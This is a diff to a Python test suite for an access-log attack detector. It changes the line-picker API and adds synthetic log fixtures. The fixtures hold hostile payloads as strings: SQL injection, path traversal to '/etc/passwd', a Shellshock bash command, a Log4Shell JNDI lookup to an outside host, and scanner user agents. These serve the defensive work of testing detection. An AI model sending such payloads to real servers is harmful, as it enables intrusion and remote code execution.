@@ -14,7 +14,7 @@ from bastion.logs.prefilter import LinePicker
 from bastion.logs.run import Session, log_options
 from bastion.logs.signals import payloads
 
-from tests.logs.support import access, write
+from tests.logs.support import BROWSER, access, write
 from tests.logs.test_signals import ATTACKS, BENIGN
 
 ROOT = Path(__file__).parents[2]
@@ -22,8 +22,9 @@ EXTRA_PAYLOADS = ROOT / "benchmarks" / "logs" / "extra_payloads.txt"
 FIXTURE = Path(__file__).parent / "fixtures" / "access.log"
 
 
-def _every_line(_picker, chunk: bytes) -> list[int]:
-    return [0] + [i + 1 for i, byte in enumerate(chunk) if byte == 10 and i + 1 < len(chunk)]
+def _every_line(_picker, chunk: bytes) -> list[tuple[int, bool]]:
+    """Every line, every detector: what the fast path must agree with."""
+    return [(0, True)] + [(i + 1, True) for i, byte in enumerate(chunk) if byte == 10 and i + 1 < len(chunk)]
 
 
 def _signals(path: str) -> list[tuple]:
@@ -44,6 +45,9 @@ def _mixed_log() -> list[str]:
     targets += ["/item?id='", "/item?id=%5Cx27%5Cx4F%5Cx52%20SELECT%20*", "/q?v=%3C%3E%22'%25%3B)(%26%2B", "/etc/passwd",
                 "/download?file=windows/win.ini", "/wp-login.php", "/.env", "/login?token=abc", "/u?email=a@b.example"]
     lines = [access(f"203.0.113.{i % 50}", t, status=(200, 404, 500, 403, 429)[i % 5], at=i) for i, t in enumerate(targets)]
+    lines += [access("203.0.113.60", t, status=404, agent=agent, at=800 + i) for i, (t, agent) in enumerate(
+        [("/gone", "{{7*7}}"), ("/gone2", "() { :; }; /bin/bash -c id"), ("/a@b.example", BROWSER), ("/x?token=abc", BROWSER),
+         ("/y", "Nikto/2.5.0"), ("/.git/config", BROWSER), ("/z", BROWSER)])]
     lines += [access("198.51.100.7", "/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)", at=900),
               access("198.51.100.8", "/login", method="POST", status=401, at=901),
               access("198.51.100.9", "/", agent="${jndi:ldap://203.0.113.9/a}", at=902)]
@@ -54,7 +58,7 @@ def _mixed_log() -> list[str]:
 def test_fast_path_finds_what_parsing_every_line_finds(tmp_path, monkeypatch):
     path = write(tmp_path, "access.log", _mixed_log())
     picked = _signals(path)
-    monkeypatch.setattr(LinePicker, "line_starts", _every_line)
+    monkeypatch.setattr(LinePicker, "picks", _every_line)
     assert picked == _signals(path)
     assert {rule for rule, *_ in picked} >= set(payloads.families().owner)
 
@@ -73,4 +77,4 @@ def test_every_line_with_a_payload_signal_is_picked(pieces):
     line = access("203.0.113.5", f"/p?q={value}").encode()
     record = access_format.parse_line(access_format.BUILTIN.compiled(), line, "t", 1)
     if payloads.detect(normalize(record.target)):
-        assert LinePicker().line_starts(line) == [0], line
+        assert LinePicker().picks(line) == [(0, True)], line
